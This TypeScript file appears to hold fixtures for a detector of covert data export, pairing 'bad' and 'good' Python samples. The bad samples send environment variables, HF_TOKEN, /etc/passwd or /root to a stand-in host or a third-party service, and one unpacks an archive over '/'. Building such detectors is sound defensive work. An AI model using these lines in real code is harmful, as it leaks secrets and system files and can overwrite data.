import type { Sample } from './sample.ts';

const environment = 'str(dict(os.environ))';

function logged(handler: string): string {
  return `import logging, logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.${handler})\nlog.error(${environment})`;
}

/** Ways to send something, or to have something fetched, that are not what a library is known for. */
export const senders: readonly Sample[] = [
  {
    name: 'upload to the hub',
    bad: `from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj="/etc/hostname", path_in_repo="x", repo_id="somebody/x")`,
    good: 'from huggingface_hub import HfApi\n\ndef share(path):\n    HfApi().upload_file(path_or_fileobj=path, path_in_repo=path, repo_id="me/x")',
  },
  {
    name: 'folder to the hub',
    bad: 'from huggingface_hub import upload_folder\nupload_folder(folder_path="/root", repo_id="somebody/x")',
    good: 'from huggingface_hub import hf_hub_download\nFILE = hf_hub_download("google/vit", "config.json", revision="0123456789012345678901234567890123456789")',
  },
  {
    name: 'environment to an experiment',
    bad: 'import os, wandb\nwandb.init(project="x", config=dict(os.environ))',
    good: 'import wandb\n\ndef train(args):\n    wandb.init(project="x", config=vars(args))',
  },
  {
    name: 'environment to a run',
    bad: 'import os, mlflow\nmlflow.log_params(dict(os.environ))',
    good: 'import mlflow\n\ndef train(args):\n    mlflow.log_params(vars(args))',
  },
  { name: 'log by HTTP', bad: logged('HTTPHandler("198.51.100.7", "/", method="POST")') },
  { name: 'log by a socket', bad: logged('SocketHandler("198.51.100.7", 80)') },
  { name: 'log by mail', bad: logged('SMTPHandler("198.51.100.7", "a@b", ["c@d"], "x")') },
  {
    name: 'log by syslog',
    bad: logged('SysLogHandler(("198.51.100.7", 514))'),
    good: 'import logging, logging.handlers\nlog = logging.getLogger(__name__)\nlog.addHandler(logging.StreamHandler())\nlog.addHandler(logging.handlers.SysLogHandler(address="/dev/log"))\nlog.info("x")',
  },
  {
    name: 'message queue',
    bad: 'import os\nimport paho.mqtt.publish as p\np.single("x", os.environ["HF_TOKEN"], hostname="198.51.100.7")',
  },
  {
    name: 'file system of a cloud',
    bad: 'import s3fs\ns3fs.S3FileSystem().put("/etc/passwd", "somebody/x")',
    good: 'import s3fs\n\ndef copy(path):\n    s3fs.S3FileSystem().get(path, "x")',
  },
  {
    name: 'repository that is cloned',
    bad: 'import git\ngit.Repo.clone_from("https://198.51.100.7/x", "x")',
    good: 'import git\n\ndef commit():\n    return git.Repo(".").head.commit.hexsha',
  },
  {
    name: 'address for a reader of numbers',
    bad: 'import os\nimport numpy as np\nnp.loadtxt("http://198.51.100.7/" + os.environ["USER"])',
    good: 'import numpy as np\nTABLE = np.loadtxt("table.txt")',
  },
  {
    name: 'address for a reader of XML',
    bad: 'import xml.sax\nxml.sax.parse("http://198.51.100.7/x", xml.sax.ContentHandler())',
    good: 'import xml.sax\nxml.sax.parse("x.xml", xml.sax.ContentHandler())',
  },
  {
    name: 'rules for robots',
    bad: 'import urllib.robotparser as r\np = r.RobotFileParser("http://198.51.100.7/")\np.read()',
  },
  {
    name: 'archive that is unpacked over the system',
    bad: 'import shutil\nshutil.unpack_archive("x.zip", "/")',
    good: 'import shutil\nshutil.unpack_archive("x.zip", "data")',
  },
  {
    name: 'metric of somebody',
    least: 'review',
    bad: 'import evaluate\nevaluate.load("somebody/metric")',
    good: 'import evaluate\n\ndef score():\n    return evaluate.load("accuracy")',
  },
];
